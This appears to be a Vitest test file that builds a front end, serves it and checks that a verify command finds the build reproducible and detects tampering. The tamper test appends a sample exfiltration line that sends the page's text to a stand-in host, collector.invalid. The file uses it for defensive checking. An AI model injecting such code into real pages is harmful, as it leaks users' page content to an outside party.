// The front-end build, built for real (a child process running Vite, about 20 s each here, a
// minute or more under load), and `npm run verify` against a real intake serving it on a
// loopback port. Two builds in all: the test's own, and the one verify makes to compare with,
// which is also the second build of the reproducibility check. These builds are the slowest
// tests of the suite; any other test that needs one belongs in this file.
import { readBuildManifest, repositoryRoot, runFrontendBuild } from '@integrity-desk/server';
import { createHash, randomBytes } from 'node:crypto';
import { appendFileSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, sep } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startIntake, type Harness } from '../../services/intake/src/test-support/harness.ts';
import { runVerify as verify } from '../support/verify-cli.ts';

const BUILD_MS = 600_000;
const root = mkdtempSync(join(tmpdir(), 'integrity-desk-builds-'));
const pinnedKey = randomBytes(32).toString('base64url');
const served = join(root, 'served');
const verifiers = join(root, 'verifiers');
let intake: Harness;
/** Every line the test's own build printed. */
const buildLines: string[] = [];

function filesOf(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesOf(path) : [path];
  });
}

beforeAll(async () => {
  const outcome = await runFrontendBuild({
    outDir: served,
    pinnedKey,
    onLine: (line) => buildLines.push(line),
  });
  expect(outcome, outcome.tail.join('\n')).toMatchObject({ ok: true });
  // The deployment: a real intake serving that build on a loopback port.
  intake = await startIntake({ deps: { staticDir: served } });
}, BUILD_MS);

afterAll(async () => {
  await intake?.close();
  rmSync(root, { recursive: true, force: true });
});

describe('front-end build', () => {
  it('prints no advice to run a script that does not exist, and no timing report that reads like a warning', () => {
    const printed = buildLines.join('\n');
    expect(printed).toMatch(/built in/);
    expect(printed).toMatch(/^manifest\.json: \d+ files, deployment key pinned$/m);
    expect(printed).not.toMatch(/npm run preview|PLUGIN_TIMINGS|callbacks ran for/);
  });

  it(
    'npm run verify builds the same commit with the pinned key and finds every served file the same; the two builds are byte-identical',
    async () => {
      const result = await verify(intake.url, '--keep-build', verifiers);
      expect(result.out).toContain(`pinned key:   ${pinnedKey}`);
      expect(result.out).toMatch(/OK: all \d+ files the deployment serves are byte for byte/);
      expect(result.out).toMatch(/desk only {2}desk\.html/);
      expect(result.code, result.out).toBe(0);

      const a = readBuildManifest(served)!;
      const b = readBuildManifest(verifiers)!;
      expect(a.pinnedDeploymentKey).toBe(pinnedKey);
      expect(a.commit).toMatch(/^[0-9a-f]{40}$|^unknown$/);
      expect(b).toEqual(a);
      // Every file on disk is in the manifest with its real hash (the manifest itself aside).
      for (const dir of [served, verifiers]) {
        const onDisk = filesOf(dir)
          .map((file) => relative(dir, file).split(sep).join('/'))
          .filter((path) => path !== 'manifest.json')
          .sort();
        expect(onDisk).toEqual(Object.keys(a.files).sort());
        for (const path of onDisk) {
          const bytes = readFileSync(join(dir, path));
          expect(createHash('sha256').update(bytes).digest('hex'), path).toBe(a.files[path]);
          // Nothing in it names where it was built: another checkout must get the same bytes.
          expect(bytes.includes(repositoryRoot), path).toBe(false);
          expect(bytes.includes(root), path).toBe(false);
          // A pinned build carries no "not pinned" banner on any page.
          if (path.endsWith('.html')) expect(bytes.includes('unpinned-banner'), path).toBe(false);
        }
      }
      // The key is in the code the browser runs, not only in the manifest.
      const withKey = Object.keys(a.files).filter(
        (path) => path.endsWith('.js') && readFileSync(join(served, path)).includes(pinnedKey),
      );
      expect(withKey.length).toBeGreaterThan(0);
    },
    BUILD_MS,
  );

  it('npm run verify names a file the deployment altered and exits non-zero', async () => {
    const manifest = readBuildManifest(served)!;
    const altered = Object.keys(manifest.files).find(
      (p) => p.startsWith('_app/immutable/') && p.endsWith('.js'),
    )!;
    appendFileSync(
      join(served, altered),
      '\n;fetch("https://collector.invalid/"+document.body.innerText)',
    );
    const result = await verify(intake.url, '--use-build', verifiers);
    expect(result.out).toContain(`DIFFERENT  ${altered}`);
    expect(result.out).toContain('NOT THE SAME: 1 file(s) differ and 0 are missing');
    expect(result.code, result.out).toBe(1);
  }, 120_000);
});
